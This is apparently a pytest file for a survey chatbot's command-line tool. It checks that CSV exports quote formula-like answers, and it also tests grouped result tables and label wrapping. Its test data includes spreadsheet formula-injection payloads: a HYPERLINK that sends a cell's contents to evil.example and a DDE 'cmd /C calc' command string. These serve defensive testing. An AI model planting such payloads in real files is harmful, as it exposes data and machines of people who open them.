"""``survey results`` and ``panel export`` as a spreadsheet or a person reads them.

Through the real command line on a real SQLite file; answers arrive through ``panelbot chat``.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from bot.csv_cells import safe_cell

LONG_LABEL = "Neither easy nor hard, because the online booking form kept timing out"

SURVEY = f"""\
id = "wait"
title = "Waiting for care"
locales = ["en"]
intro.en = "A short survey."

[[questions]]
id = "ease"
type = "choice"
text.en = "How easy was it?"
options = [
  {{ id = "easy", text.en = "Easy" }},
  {{ id = "mixed", text.en = "{LONG_LABEL}" }},
]

[[questions]]
id = "score"
type = "scale"
min = 1
max = 5
text.en = "How would you rate it?"

[[questions]]
id = "days"
type = "number"
min = 0
max = 365
text.en = "How many days did you wait?"

[[questions]]
id = "comment"
type = "text"
text.en = "Anything else?"
"""

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


def run(config: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        [sys.executable, "-m", "bot", "-c", str(config), *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        input=stdin,
        cwd=config.parent,
    )
    assert result.returncode == 0, result.stderr
    return result


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two panellists, one of each sex, who answered the survey (comment: a formula)."""
    root = tmp_path_factory.mktemp("results")
    path = root / "panelbot.toml"
    path.write_text(
        '[bot]\nname = "CLI Panel"\ndatabase = "panel.db"\nquiet_hours = false\n'
        "[channels.simulator]\nenabled = true\n"
        '[[panel.fields]]\nname = "sex"\nvalues = ["female", "male"]\n'
        'text.en = "What is your sex?"\n',
        encoding="utf-8",
    )
    (root / "wait.toml").write_text(SURVEY, encoding="utf-8")
    run(path, "survey", "add", str(root / "wait.toml"))
    for name, sex in (("ann", "1"), ("bob", "2")):
        run(path, "chat", "--as", f"sim:{name}", stdin=f"hi\nyes\n{sex}\n")
    run(path, "survey", "launch", "wait", "--close-after", "3d")
    # ann: mixed, 2, 10 days; bob: easy, 5, 4 days.
    run(path, "chat", "--as", "sim:ann", stdin=f"2\n2\n10\n{FORMULAS[0]}\n")
    run(path, "chat", "--as", "sim:bob", stdin=f"1\n5\n4\n{FORMULAS[1]}\n")
    return path


def test_csv_quotes_answers_a_spreadsheet_would_run_as_formulas(config: Path) -> None:
    data = json.loads(run(config, "survey", "results", "wait", "--format", "json").stdout)
    assert sorted(data["questions"][-1]["responses"]) == sorted(FORMULAS[:2])  # stored as sent

    out = run(config, "survey", "results", "wait", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    comments = sorted(r["option"] for r in rows if r["question"] == "comment")
    assert comments == sorted("'" + f for f in FORMULAS[:2])
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((f, "'" + f) for f in FORMULAS),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number holds no formula
        ("+447700900123", "+447700900123"),  # nor does a phone number: import reads it back
        ("-100555", "-100555"),  # a Telegram group's chat id
        ("a = b", "a = b"),
        (-2.5, -2.5),
        ("", ""),
    ],
)
def test_which_cells_get_a_quote(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_panel_export_csv_quotes_formula_like_values(tmp_path: Path) -> None:
    config = tmp_path / "panelbot.toml"
    config.write_text(
        '[bot]\nname = "CLI Panel"\ndatabase = "panel.db"\n'
        '[[panel.fields]]\nname = "locality"\nvalues = ["=HYPERLINK(\\"http://x\\")", "@north"]\n',
        encoding="utf-8",
    )
    panel = tmp_path / "panel.csv"
    panel.write_text(
        'phone,locality\n+447400100101,"=HYPERLINK(""http://x"")"\n+447400100102,@north\n-100,\n',
        encoding="utf-8",
    )
    run(config, "panel", "import", str(panel))
    out = tmp_path / "export.csv"
    run(config, "panel", "export", "--format", "csv", "--output", str(out))

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [(r["phone"], r["locality"]) for r in rows] == [
        ("+447400100101", '\'=HYPERLINK("http://x")'),
        ("+447400100102", "'@north"),
    ]


def test_table_by_group_shows_the_means_of_scales_and_numbers(config: Path) -> None:
    table = run(config, "survey", "results", "wait", "--by", "sex").stdout
    lines = table.splitlines()

    def group_lines(question: str) -> list[str]:
        start = next(i for i, line in enumerate(lines) if line.startswith(f"{question}:"))
        end = next((i for i in range(start + 1, len(lines)) if not lines[i]), len(lines))
        return [line.strip() for line in lines[start:end] if line.startswith("    sex=")]

    assert group_lines("days") == [
        "sex=female (1): mean 10, median 10, min 10, max 10",
        "sex=male (1): mean 4, median 4, min 4, max 4",
    ]
    score = group_lines("score")
    assert score[0].endswith("mean 2, median 2") and score[1].endswith("mean 5, median 5")
    assert "  mean 7, median 7, min 4, max 10" in lines


def test_table_wraps_long_labels_and_cuts_group_labels_at_a_word(config: Path) -> None:
    table = run(config, "survey", "results", "wait", "--by", "sex").stdout
    lines = table.splitlines()

    # The option list wraps a long label at word boundaries; the counts go on its last line.
    start = lines.index("  Neither easy nor hard, because the")
    assert lines[start + 1].split() == [
        "online",
        "booking",
        "form",
        "kept",
        "timing",
        "out",
        "1",
        "50.0%",
        "##########",
    ]
    # A --by line cuts it at a word, with an ellipsis.
    female = next(line for line in lines if line.startswith("    sex=female"))
    assert "Neither easy nor hard… 100.0%" in female
    for line in lines:
        for word in ("Neithe ", "becau ", "timin "):
            assert word not in line


def test_a_free_text_answer_of_several_lines_stays_under_its_dash(
    capsys: pytest.CaptureFixture[str],
) -> None:
    from bot.cli.survey_cmd import _results_table

    data = {
        "title": "T",
        "survey": "t",
        "version": 1,
        "weighted": False,
        "invited": 1,
        "started": 1,
        "completed": 1,
        "response_rate": 100.0,
        "by": None,
        "questions": [
            {
                "id": "comment",
                "type": "text",
                "text": "Anything else?",
                "answered": 1,
                "responses": ["first line\nsecond line"],
            }
        ],
    }
    _results_table(data)
    lines = capsys.readouterr().out.splitlines()
    assert lines[-2:] == ["  - first line", "    second line"]
